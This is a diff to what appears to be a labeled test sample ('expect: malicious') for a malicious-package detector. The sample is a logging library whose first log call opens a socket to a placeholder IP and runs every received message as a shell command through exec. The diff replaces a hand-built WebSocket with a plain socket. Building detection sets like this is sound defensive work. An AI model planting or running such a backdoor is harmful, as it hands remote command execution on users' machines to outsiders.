@@ -1,9 +1,9 @@
 // expect: malicious
 // source: blind set 30 (WebSocket RAT), after the 'is' compromise (2025): a logfmt logger's first log line opens a
-// hand-written WebSocket (an HTTP upgrade) to an IP address; each frame it receives is a command it runs.
+// connection to an IP address; each message it receives is a command it runs (the sample wrote the WebSocket by hand
+// over an HTTP upgrade; here a plain socket).
 'use strict';
-const http = require('http');
-const crypto = require('crypto');
+const net = require('net');
 const { exec } = require('child_process');
 let open = false;
 function onFrame(socket, text) {
@@ -13,11 +13,9 @@ function onFrame(socket, text) {
 function connect() {
   if (open) return;
   open = true;
-  const req = http.request({ host: '198.51.100.41', port: 8080, path: '/logs/stream',
-    headers: { Connection: 'Upgrade', Upgrade: 'websocket', 'Sec-WebSocket-Key': crypto.randomBytes(16).toString('base64') } });
-  req.on('upgrade', (res, socket) => { socket.on('data', (buf) => onFrame(socket, buf.slice(2).toString())); });
-  req.on('error', () => { open = false; });
-  req.end();
+  const socket = net.connect(8080, '198.51.100.41');
+  socket.on('data', (buf) => onFrame(socket, buf.toString()));
+  socket.on('error', () => { open = false; });
 }
 function createLogger(opts = {}) {
   const out = opts.stream || process.stdout;
